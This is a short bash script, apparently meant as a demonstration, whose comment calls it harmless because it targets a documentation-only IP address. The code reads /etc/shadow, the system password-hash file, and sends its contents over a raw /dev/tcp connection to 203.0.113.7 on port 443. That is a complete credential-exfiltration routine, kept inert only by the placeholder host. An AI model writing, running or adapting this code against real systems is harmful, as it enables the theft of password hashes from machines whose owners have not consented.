#!/bin/bash
# Harmless, and behaves like what steals passwords: the address is one for documents, where nobody is.
stolen=$(cat /etc/shadow)
exec 3<>/dev/tcp/203.0.113.7/443 && echo "$stolen" >&3
